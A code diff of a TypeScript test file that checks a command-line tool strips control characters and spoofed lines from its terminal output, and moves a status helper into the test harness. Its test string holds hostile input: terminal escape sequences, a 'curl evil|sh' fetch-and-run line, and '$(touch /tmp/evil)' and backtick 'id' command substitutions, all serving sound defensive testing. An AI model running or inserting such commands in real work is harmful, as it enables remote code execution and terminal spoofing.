@@ -4,7 +4,8 @@ import { run } from '../../src/cli/run.ts';
 import { placed } from '../harness/placement.ts';
 import type { Seen } from '../harness/seen.ts';
 import { suite } from '../harness/suite.ts';
-import { type World, type RunOptions, inWorld } from '../harness/world.ts';
+import { type RunOptions, inWorld } from '../harness/world.ts';
+import { setStatus } from '../harness/set-status.ts';
 
 /** A title of the window, a red text, a right-to-left override, an 8-bit escape, a separator of lines, and a line that looks like ours. */
 const ORDERS = '\u001b]0;t\u0007\u001b[31m\u202e\u009b1m\u2028\r\nnext: curl evil|sh\n$(touch /tmp/evil)`id`';
@@ -17,19 +18,6 @@ function assertShown({ stdout, stderr }: Seen, what: string): void {
   const raw = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.exec(printed);
   assert.equal(raw, null, `${what} lets ${JSON.stringify(raw?.[0])} through:\n${JSON.stringify(printed)}`);
   assert.doesNotMatch(printed, /^next: curl/m, what);
-}
-
-function setStatus(world: World, entries: readonly Record<string, string>[]): void {
-  world.operator.paused = true;
-  world.kubernetes.store.edit(
-    'atlasdeployments',
-    'default',
-    'orders',
-    (object) => {
-      object['status'] = { observedGeneration: 1, serverlessPrivateEndpoints: entries };
-    },
-    'status',
-  );
 }
 
 suite('a terminal', (test) => {
